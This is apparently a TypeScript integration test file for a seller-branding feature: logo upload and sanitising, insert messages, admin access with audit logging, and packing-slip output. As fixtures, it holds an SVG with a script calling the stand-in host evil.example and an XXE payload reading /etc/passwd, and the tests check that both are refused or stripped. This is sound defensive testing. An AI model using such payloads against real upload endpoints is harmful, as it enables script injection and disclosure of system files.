import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, sellerBranding } from '../../db/schema.ts';
import { boxStl } from '../../../test/hostile-models.ts';
import { startTestApp, uploadDesign, type SignedInClient, type TestApp } from '../../../test/test-app.ts';

/**
 * Branded parcels (issue 24, point 4) through the real server and database: the seller's logo
 * (PNG re-encoded, SVG sanitised and rasterised), insert message and thank-you card, who may set
 * and read them, bad uploads refused without leaving files, and the packing slip carrying them.
 * Runs on PGlite, and on PostgreSQL with DATABASE_URL.
 */

let t: TestApp;
let seller: SignedInClient;
let other: SignedInClient;
let admin: SignedInClient;
const dir = mkdtempSync(join(tmpdir(), 'branding-'));

beforeAll(async () => {
  t = await startTestApp();
  [seller, other, admin] = await Promise.all([t.signUp({ role: 'beta' }), t.signUp(), t.signUp({ role: 'admin' })]);
}, 60_000);
afterAll(async () => {
  await t?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function putLogo(client: SignedInClient, bytes: Uint8Array, fileName: string, query = '') {
  const form = new FormData();
  form.append('file', new Blob([bytes]), fileName);
  const response = await fetch(new URL(`/api/branding/logo${query}`, client.baseUrl), {
    method: 'PUT',
    headers: { cookie: client.cookieHeader(), origin: client.baseUrl },
    body: form,
  });
  return { status: response.status, body: (await response.json()) as any };
}

const getBytes = async (client: SignedInClient, path: string) => {
  const response = await fetch(new URL(path, client.baseUrl), { headers: { cookie: client.cookieHeader() } });
  return { status: response.status, type: response.headers.get('content-type'), bytes: Buffer.from(await response.arrayBuffer()) };
};

const storedLogoKeys = async () => (await t.context.db.select({ key: sellerBranding.logoKey }).from(sellerBranding)).map((r) => r.key).filter(Boolean);

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(1)">
  <script>fetch('https://evil.example')</script><rect width="200" height="100" fill="#7c3aed"/></svg>`;

describe('the seller’s branding', () => {
  it('starts empty, stores the insert message and the card choice', async () => {
    expect((await seller.get('/api/branding')).body).toEqual({ logo: null, insertMessage: '', thankYouCard: false });
    const saved = await seller.request<any>('PUT', '/api/branding', { insertMessage: '  Thanks for shopping small!  ', thankYouCard: true }, {});
    expect(saved.status).toBe(200);
    expect(saved.body).toEqual({ logo: null, insertMessage: 'Thanks for shopping small!', thankYouCard: true });
    expect((await seller.get('/api/branding')).body.insertMessage).toBe('Thanks for shopping small!');
  });

  it('refuses bad input with 400 and changes nothing', async () => {
    for (const body of [{ insertMessage: 'x'.repeat(601), thankYouCard: true }, { insertMessage: 'ok' }, { insertMessage: 'ok', thankYouCard: true, ownerId: 'someone' }]) {
      const response = await seller.request<any>('PUT', '/api/branding', body, {});
      expect(response.status).toBe(400);
      expect(typeof response.body.error).toBe('string');
    }
    expect((await seller.get('/api/branding')).body.insertMessage).toBe('Thanks for shopping small!');
  });

  it('takes an SVG logo, sanitised and rasterised, and serves it as a PNG only to its owner', async () => {
    const uploaded = await putLogo(seller, Buffer.from(SVG), 'logo.svg');
    expect(uploaded.status).toBe(200);
    expect(uploaded.body.logo).toMatchObject({ format: 'svg', widthPx: 800, heightPx: 400 });
    const png = await getBytes(seller, '/api/branding/logo.png');
    expect(png.status).toBe(200);
    expect(png.type).toBe('image/png');
    expect((await sharp(png.bytes).metadata()).format).toBe('png');
    expect(png.bytes.toString('latin1')).not.toContain('evil');
    expect((await getBytes(other, '/api/branding/logo.png')).status).toBe(404); // the other seller has none
    expect((await other.get(`/api/branding?targetUserId=${seller.userId}`)).status).toBe(403);
    expect((await getBytes(other, `/api/branding/logo.png?targetUserId=${seller.userId}`)).status).toBe(403);
    expect((await t.client().get('/api/branding')).status).toBe(401);
  });

  it('replaces the logo with a PNG and deletes the old file; refuses bad files and leaves nothing behind', async () => {
    const before = await storedLogoKeys();
    const png = await sharp({ create: { width: 400, height: 200, channels: 4, background: '#0ea5e9' } }).png().toBuffer();
    const replaced = await putLogo(seller, png, 'logo.png');
    expect(replaced.body.logo).toMatchObject({ format: 'png', widthPx: 400, heightPx: 200 });
    const after = await storedLogoKeys();
    expect(after).toHaveLength(1);
    expect(after).not.toEqual(before);
    await expect(t.context.storage.readAll(before[0]!)).rejects.toThrow(); // the old file is gone

    const jpeg = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } }).jpeg().toBuffer();
    const refused = [
      await putLogo(seller, jpeg, 'logo.png'),
      await putLogo(seller, Buffer.from('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'), 'x.svg'),
      await putLogo(seller, png.subarray(0, 100), 'cut.png'),
    ];
    expect(refused.map((r) => r.status)).toEqual([400, 400, 400]);
    expect(refused.every((r) => typeof r.body.error === 'string')).toBe(true);
    const tooLarge = await putLogo(seller, Buffer.alloc(1024 * 1024 + 10, 1), 'huge.png');
    expect(tooLarge.status).toBe(413);
    expect(await storedLogoKeys()).toEqual(after);
    expect((await seller.get('/api/branding')).body.logo.format).toBe('png');
  });

  it('lets an admin set another seller’s branding, audited as the admin', async () => {
    const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#f59e0b' } }).png().toBuffer();
    expect((await putLogo(admin, png, 'l.png', `?targetUserId=${other.userId}`)).status).toBe(200);
    const set = await admin.request<any>('PUT', `/api/branding?targetUserId=${other.userId}`, { insertMessage: 'Set by support', thankYouCard: false }, {});
    expect(set.status).toBe(200);
    expect((await other.get('/api/branding')).body).toMatchObject({ insertMessage: 'Set by support', logo: { widthPx: 64 } });
    const entries = (await t.context.db.select().from(auditLog)).filter((e) => e.targetUserId === other.userId && e.action.startsWith('branding.'));
    expect(entries.map((e) => [e.action, e.actorId])).toEqual(expect.arrayContaining([['branding.logo', admin.userId], ['branding.update', admin.userId]]));
    const removed = await admin.request<any>('DELETE', `/api/branding/logo?targetUserId=${other.userId}`, undefined, {});
    expect(removed.body.logo).toBeNull();
    expect((await getBytes(other, '/api/branding/logo.png')).status).toBe(404);
  });
});

describe('the API reference', () => {
  it('describes the branding and listing-image calls in the OpenAPI document', async () => {
    const paths = Object.keys((await t.client().get('/api/docs/json')).body.paths);
    expect(paths).toEqual(
      expect.arrayContaining([
        '/api/branding',
        '/api/branding/logo',
        '/api/branding/logo.png',
        '/api/products/{id}/listing-images',
        '/api/listing-images/{configId}/{file}',
        '/api/listing-images/{configId}/images.zip',
      ]),
    );
  });

  it('serves the logo at an address carrying its version, and refuses unknown query keys', async () => {
    const { logo } = (await seller.get('/api/branding')).body;
    expect((await getBytes(seller, `/api/branding/logo.png?v=${encodeURIComponent(logo.updatedAt)}`)).status).toBe(200);
    expect((await seller.get('/api/branding/logo.png?size=big')).status).toBe(400);
  });
});

describe('the packing slip carries the branding', () => {
  it('prints the logo, the insert message and the thank-you card on the order’s slip', async () => {
    const design = await uploadDesign(seller, boxStl(20, 20, 20), 'box.stl');
    const product = await seller.post('/api/products', { name: 'Desk box', variants: [{ name: 'Box', sku: 'BRAND-BOX', parts: [{ printConfigId: design.printConfigs[0].id, quantity: 1 }] }] });
    expect(product.status).toBe(201);
    const order = await seller.post('/api/orders/manual', {
      items: [{ sku: 'BRAND-BOX', quantity: 1 }],
      shippingAddress: { name: 'Ada Buyer', line1: '1 Main St', city: 'Springfield', postalCode: '12345', country: 'US' },
    });
    expect(order.status).toBe(201);
    const slip = await getBytes(admin, `/api/admin/production/orders/${order.body.id}/packing-slip.pdf`);
    expect(slip.status).toBe(200);
    const file = join(dir, 'slip.pdf');
    writeFileSync(file, slip.bytes);
    const images = execFileSync('pdfimages', ['-list', file], { encoding: 'utf8' });
    expect(images).toMatch(/^\s+1\s+\d+\s+image\s+400\s+200/m); // the seller's PNG on page 1
    expect(images).toMatch(/^\s+2\s+\d+\s+image\s+400\s+200/m); // and on the card
    const text = execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' }).replace(/\s+/g, ' ');
    expect(text).toContain('Thanks for shopping small!');
    expect(text).toContain('Thank you!');
  });
});
